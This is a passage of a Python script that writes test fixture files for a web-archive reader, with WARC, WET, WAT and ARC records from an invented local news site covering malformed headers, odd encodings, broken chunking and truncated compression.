        + _raw("resource", "https://courier.example/r2", pages[1], ctype="text/html; charset=utf-8", n=5)
        + _raw("resource", "https://courier.example/r2.png", b"\x89PNG\r\n\x1a\n", ctype="image/png", n=6)
        + _raw("resource", "dns:courier.example", b"20310206100000\ncourier.example. 300 IN A 192.0.2.1\n",
               ctype="text/dns", n=7)
        + _raw("conversion", "https://courier.example/r1", b"Brennock dam inspected\n", ctype="text/plain", n=8)
        + _raw("response", "https://courier.example/r3", _http(pages[2]), n=9))
    files["response-without-http.warc"] = (
        _raw("response", "https://courier.example/h1", pages[0], ctype="text/html", n=1)
        + _raw("response", "https://courier.example/h2", _http(pages[1]), n=2)
        + _raw("response", "https://courier.example/h3", pages[2], ctype="", n=3))
    files["status-lines.warc"] = (
        _raw("response", "https://courier.example/s1", _http(pages[0], b"HTTP/1.1 200"), n=1)
        + _raw("response", "https://courier.example/s2", _http(pages[1], b"HTTP/2 200"), n=2)
        + _raw("response", "https://courier.example/s3", _http(b"", b"HTTP/1.1 304 Not Modified", b""), n=3)
        + _raw("response", "https://courier.example/s4", _http(pages[2], b"HTTP/1.0 200 Ok",
                                                              b"content-type: TEXT/HTML;charset=UTF-8\r\n"), n=4))
    cafe = ("<!DOCTYPE html><html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=windows-1252\">"
            "<title>Caf\u00e9 reopens in Pellworth</title></head><body><article><h1>Caf\u00e9 reopens in Pellworth</h1>"
            "<p>The harbour caf\u00e9 in Pellworth reopened on Thursday after the flood water drained away.</p>"
            "<p>Its owner said the \u201cbest day of the winter\u201d had brought queues to the door.</p>"
            "</article></body></html>").encode("cp1252")
    cc = io.BytesIO()
    for i, page in enumerate([*pages[:2], cafe], start=1):
        uri = f"https://courier.example/cc{i}"
        headers = (b"Date: Thu, 06 Feb 2031 10:00:00 GMT\r\nContent-Type: text/html\r\n"
                   b"X-Crawler-Content-Encoding: gzip\r\nX-Crawler-Content-Length: 812\r\n"
                   b"Content-Length: %d\r\n" % len(page))
        records = [_raw("request", uri, b"GET / HTTP/1.1\r\nHost: courier.example\r\n\r\n",
                        ctype="application/http; msgtype=request", n=10 * i),
                   _raw("response", uri, _http(page, headers=headers), n=10 * i + 1,
                          extra=b"WARC-Identified-Payload-Type: text/html\r\nWARC-IP-Address: 192.0.2.1\r\n"),
                   _raw("metadata", uri, b"fetchTimeMs: 87\r\n", ctype="application/warc-fields", n=10 * i + 2)]
        for record in records:
            cc.write(_gzip(record))
    info_record = _raw("warcinfo", "", b"isPartOf: invented-news\r\n", ctype="application/warc-fields", n=1)
    files["cc-news-style.warc.gz"] = _gzip(info_record) + cc.getvalue()
    files["unlabelled-gzip-body.warc"] = (
        _raw("response", "https://courier.example/g1", _http(_gzip(pages[0])), n=1)
        + _raw("response", "https://courier.example/g2", _http(pages[1]), n=2))
    files["brotli-body.warc"] = (
        _raw("response", "https://courier.example/b1",
             _http(b"\x1b\x4f\x01\x00\x8c\x02\x7e\x5a\x3c\x10" * 8, headers=b"Content-Type: text/html\r\n"
                   b"Content-Encoding: br\r\n"), n=1)
        + _raw("response", "https://courier.example/b2", _http(pages[1]), n=2))
    broken_chunks = b"40\r\n" + pages[2][:64] + b"\r\n" + b"fff\r\n" + pages[2][64:] + b"\r\n0\r\n\r\n"
    files["bad-chunk-sizes.warc"] = (
        _raw("response", "https://courier.example/c1", _http(pages[0]), n=1)
        + _raw("response", "https://courier.example/c3", _http(broken_chunks, headers=b"Content-Type: text/html\r\n"
                                                               b"Transfer-Encoding: chunked\r\n"), n=2))
    bom_page = codecs.BOM_UTF8 + _page(
        "Café reopens", "The café by the Pellworth quay reopened on Friday — with new chairs and a new awning.\n"
                        "Its owner said the flood had reached the counter but spared the kitchen behind it.") \
        .replace(b"<head>", b'<head><meta charset="windows-1252">')
    raw_deflate = zlib.compressobj(wbits=-15)
    deflated = raw_deflate.compress(pages[1]) + raw_deflate.flush()
    cut_gzip = _gzip(pages[2])
    files["body-encodings.warc"] = (
        _raw("response", "https://courier.example/e1", _http(bom_page), n=1)
        + _raw("response", "https://courier.example/e2", _http(deflated, headers=b"Content-Type: text/html\r\n"
                                                                   b"Content-Encoding: deflate\r\n"), n=2)
        + _raw("response", "https://courier.example/e3", _http(cut_gzip[: len(cut_gzip) * 2 // 3],
                                                              headers=b"Content-Type: text/html\r\n"
                                                                      b"Content-Encoding: gzip\r\n"), n=3))
    files["lowercase-fields.warc"] = b"".join(
        _raw("response", f"https://courier.example/l{i}", _http(page), n=i)
        .replace(b"Content-Length: ", b"content-length:   ").replace(b"WARC-Type: ", b"warc-type:")
        for i, page in enumerate(pages, start=1))
    files["no-content-length.warc"] = (
        _raw("response", "https://courier.example/n1", _http(pages[0]), n=1)
        + _raw("response", "https://courier.example/n2", _http(pages[1]), n=2).replace(b"Content-Length", b"X-Length")
        + _raw("response", "https://courier.example/n3", _http(pages[2]), n=3))
    files["gzipped-but-named.warc"] = _gzip(files["status-lines.warc"])
    files["plain-but-named.warc.gz"] = files["lowercase-fields.warc"]
    wet_info = _raw("warcinfo", "", b"isPartOf: invented-crawl\r\ndescription: page texts\r\n",
                    ctype="application/warc-fields", n=1)
    texts = [f"{title}\nHome | Region\n{text}\nCopyright Lowmoor Courier".encode() for title, text in PAGES]
    wet_records = [_raw("conversion", f"https://courier.example/w{i}", text, ctype="text/plain", n=i + 1,
                        extra=b"WARC-Identified-Content-Language: eng\r\n")
                   for i, text in enumerate(texts, start=1)]
    wet_records.insert(2, _raw("conversion", "https://courier.example/empty", b"", ctype="text/plain", n=9))
    files["common-crawl.warc.wet.gz"] = b"".join(_gzip(r) for r in [wet_info, *wet_records])
    wat = [_raw("metadata", f"https://courier.example/m{i}", b'{"Envelope": {"Format": "WARC"}}',
                ctype="application/json", n=i + 1) for i in range(1, 4)]
    files["common-crawl.warc.wat.gz"] = b"".join(_gzip(r) for r in [wet_info, *wat])
    desc = b"1 0 Lowmoor Courier\nURL IP-address Archive-date Content-type Archive-length\n"
    arc = b"filedesc://spaces.arc 0.0.0.0 20310206100000 text/plain %d\n%s\n" % (len(desc), desc)
    for i, (title, text) in enumerate(PAGES, start=1):
        http = b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n" + _page(title, text)
        arc += b"https://courier.example/a page %d 192.0.2.1 20310206100000 text/html %d\n%s\n" % (i, len(http), http)
    files["space-in-url.arc"] = arc


def main() -> None:
    for name, data in {**feeds(), **warcs()}.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
